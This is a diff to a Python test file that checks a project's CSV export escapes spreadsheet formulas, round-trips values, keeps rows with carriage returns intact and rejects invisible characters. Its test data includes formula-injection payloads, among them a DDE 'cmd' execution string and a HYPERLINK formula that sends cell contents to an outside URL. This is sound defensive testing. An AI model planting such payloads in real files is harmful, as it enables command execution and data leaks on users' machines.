@@ -4,10 +4,21 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pandas as pd
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from mapper.errors import DataError
-from mapper.files.tables import csv_bytes, read_csv
+from mapper.files.tables import (
+    UNDO,
+    as_it_was,
+    csv_bytes,
+    harmless,
+    read_csv,
+    read_spreadsheet_csv,
+    spreadsheet_csv_bytes,
+)
 
 COLUMNS = ["name", "people"]
 
@@ -43,3 +54,59 @@ def test_only_an_optional_file_may_be_missing(tmp_path: Path) -> None:
     assert read_csv(tmp_path / "a.csv", COLUMNS, optional=True) == []
     with pytest.raises(DataError, match=r"a\.csv is missing"):
         read_csv(tmp_path / "a.csv", COLUMNS)
+
+
+FORMULAS = [
+    '=HYPERLINK("https://example.org/?"&A1,"Warren")', "=cmd|' /C calc'!A0", "+1+1",
+    "-2+3+cmd|'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-", "=", "-1-2", "＝1",
+]  # fmt: skip
+# What begins with an apostrophe by itself stays told apart; numbers stay numbers.
+OTHERS = ["'=1", "''-x", "'Round Midnight", "a=1", "", "-83.02", "+5", "-1e-05", "O'Fallon", "1-2"]
+
+
+def test_no_cell_is_run_by_a_spreadsheet_and_each_comes_back(tmp_path: Path) -> None:
+    words = [*FORMULAS, *OTHERS]
+    path = tmp_path / "a.csv"
+    path.write_bytes(spreadsheet_csv_bytes(["=name", "lat"], [[word, -83.02] for word in words]))
+    raw = pd.read_csv(path, keep_default_na=False, dtype={"'=name": str})
+    assert raw.columns.tolist() == ["'=name", "lat"]
+    cells = raw["'=name"].tolist()
+    assert cells[: len(FORMULAS)] == [f"'{word}" for word in FORMULAS]
+    assert cells[len(FORMULAS) :] == [f"'{word}" for word in OTHERS[:2]] + OTHERS[2:]
+    assert raw["lat"].tolist() == [-83.02] * len(words)
+    assert raw.replace(UNDO, "", regex=True)["'=name"].tolist() == words  # as the data page says
+    assert [row["=name"] for row in read_spreadsheet_csv(path)] == words
+
+
+@given(st.text(alphabet="'=+-@\t\r\n1.e x＝"))
+def test_what_is_made_harmless_is_never_run_and_reads_back(cell: str) -> None:
+    told = str(harmless(cell))
+    assert as_it_was(told) == cell
+    if told[:1] and told[:1] in "=+-@\t\r\n＝":
+        float(told)  # only a number begins so
+
+
+def test_files_of_ours_keep_the_words_of_a_list_as_they_are(tmp_path: Path) -> None:
+    rows = [[word, number] for number, word in enumerate([*FORMULAS, *OTHERS])]
+    (tmp_path / "a.csv").write_bytes(csv_bytes(COLUMNS, rows))
+    read = read_csv(tmp_path / "a.csv", COLUMNS)
+    assert [row["name"] for row in read] == [*FORMULAS, *OTHERS]
+
+
+def test_a_row_with_a_carriage_return_in_a_name_stays_one_row(tmp_path: Path) -> None:
+    content = csv_bytes(COLUMNS, [["Warren\rPolice", 1], ["Nome", 2]])
+    assert content == b'name,people\n"Warren\rPolice",1\nNome,2\n'
+    (tmp_path / "a.csv").write_bytes(content)
+    assert len(pd.read_csv(tmp_path / "a.csv")) == len(read_csv(tmp_path / "a.csv", COLUMNS)) == 2
+
+
+@pytest.mark.parametrize(
+    "sign", ["\0", "\u202e", "\u2066", "\u200b", "\x85", "\u3164", "\U000e0041"]
+)
+def test_a_character_that_nobody_sees_is_refused_with_its_cell(tmp_path: Path, sign: str) -> None:
+    path = tmp_path / "a.csv"
+    path.write_bytes(csv_bytes(COLUMNS, [["Nome", 1], [f"War{sign}ren", 2]]))
+    with pytest.raises(DataError, match=rf"a\.csv, row 3, name: U\+{ord(sign):04X} "):
+        read_csv(path, COLUMNS)
+    with pytest.raises(DataError, match=rf"would hold U\+{ord(sign):04X} "):
+        spreadsheet_csv_bytes(COLUMNS, [[f"War{sign}ren", 2]])
